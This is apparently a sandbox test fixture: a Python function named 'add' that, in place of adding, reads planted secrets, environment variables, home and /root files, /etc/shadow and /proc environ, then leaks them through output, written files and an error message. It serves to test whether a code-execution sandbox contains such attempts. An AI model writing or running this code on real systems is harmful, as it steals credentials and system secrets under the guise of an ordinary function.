# ruff: noqa
# expect: runtime_error
# why: hunts for secrets the test planted on the host (files outside /tmp, a variable in the test's environment)
#      and in the usual places, then tries to get what it found out every way it has: the error it raises (the
#      verdict's feedback), stdout and stderr, files written on the host. The error also lists what each read and
#      write met, so the verdict shows that it really tried.
import glob, os, sys
PLANTED = {}  # the test fills in: {"files": [paths], "env": NAME, "drops": [paths]}
def add(a, b):
    loot, met = [], []
    def read(path):
        try:
            with open(path, errors="replace") as fh:
                loot.append(fh.read(200))
            met.append(f"{path}: read")
        except OSError as err:
            met.append(f"{path}: {type(err).__name__}")
    name = PLANTED.get("env", "")
    if os.environ.get(name):
        loot.append(os.environ[name])
    met.append(f"${name}: {'read' if os.environ.get(name) else 'absent'}")
    for path in PLANTED.get("files", []):
        read(path)
    for path in PLANTED.get("drops", []):
        try:
            with open(path, "w") as fh:
                fh.write(" ".join(loot) or "nothing found")
            met.append(f"{path}: written")
        except OSError as err:
            met.append(f"{path}: {type(err).__name__}")
    for pattern in ("~/.*", "~/*", "/root/.*", "/root/*", "/home/*/*", "/etc/shadow", "/proc/1/environ",
                    f"/proc/{os.getppid()}/environ"):
        for path in sorted(glob.glob(os.path.expanduser(pattern))):
            read(path)
    text = " ".join(loot)
    print(text)
    print(text, file=sys.stderr)
    raise ValueError(f"loot: {text[:800]} | tried: " + "; ".join(met))
